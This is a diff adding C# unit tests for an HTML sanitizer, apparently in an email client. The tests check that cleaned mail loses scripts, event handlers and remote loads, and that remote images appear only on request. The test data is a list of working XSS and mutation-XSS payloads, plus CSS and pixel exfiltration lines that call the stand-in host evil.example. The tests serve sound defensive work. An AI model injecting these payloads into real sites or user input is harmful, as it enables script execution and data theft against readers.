@@ -73,6 +73,44 @@ public sealed class SafeHtmlTests
         Assert.Equal(2, clean.BlockedImages);
     }
 
+    [Theory]
+    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
+    [InlineData("<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
+    [InlineData("<noscript><style></noscript><img src=x onerror=alert(1)>")]
+    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
+    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
+    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>")]
+    [InlineData("<style>@import url(https://evil.example/x.css);input[value^=a]{background:url(https://evil.example/a)}</style>")]
+    [InlineData("<div style=\"background:url('https://evil.example/p.gif')\">x</div><table background=https://evil.example/p.gif><tr><td>y</table>")]
+    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a><a href='java&#10;script:alert(1)'>y</a><area href=javascript:1><a xlink:href=javascript:1>z</a>")]
+    [InlineData("<video poster=https://evil.example/p><source onerror=alert(1)></video><audio src=x onerror=alert(1)>")]
+    [InlineData("<img srcset=\"https://evil.example/p 1x\" src=\"x\"><picture><source srcset=https://evil.example/p></picture><input type=image src=https://evil.example/p>")]
+    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=data:text/html,x></object><embed src=//evil.example>")]
+    [InlineData("<p title='\"><script>alert(1)</script>'>x</p><!--><img src=x onerror=alert(1)>-->")]
+    [InlineData("<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>")]
+    [InlineData("<form action=https://evil.example><button formaction=javascript:alert(1)>x</button><isindex action=javascript:1>")]
+    public void Nothing_that_acts_or_loads_comes_through_and_cleaning_again_changes_nothing(string hostile)
+    {
+        var clean = SafeHtml.Clean(hostile).Html;
+        var parsed = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + clean);
+        foreach (var element in parsed.Body!.QuerySelectorAll("*"))
+        {
+            Assert.DoesNotContain(element.LocalName, (IEnumerable<string>)["script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "video", "audio", "source"]);
+            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "srcset" or "srcdoc" or "background" or "action" or "id");
+            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name is "src" or "href" or "style" && (attribute.Value.Contains("evil.example", StringComparison.Ordinal) || attribute.Value.Contains("script", StringComparison.OrdinalIgnoreCase)));
+        }
+
+        Assert.Equal(clean, SafeHtml.Clean(clean).Html);
+    }
+
+    [Fact]
+    public void Pictures_from_elsewhere_are_shown_to_a_reader_who_asked()
+    {
+        const string Mail = "<img src=\"https://pics.example/a.png?x=1&amp;y=2\" onload=x><img src=\"http:alert\"><img src=\"/api/me\"><img src=\"javascript:1\">";
+        Assert.Equal("<img src=\"https://pics.example/a.png?x=1&amp;y=2\" alt=\"\" referrerpolicy=\"no-referrer\">", SafeHtml.Clean(Mail, remoteImages: true).Html);
+        Assert.Equal("", SafeHtml.Clean(Mail).Html);
+    }
+
     [Fact]
     public void Pictures_that_came_with_the_mail_are_shown()
     {
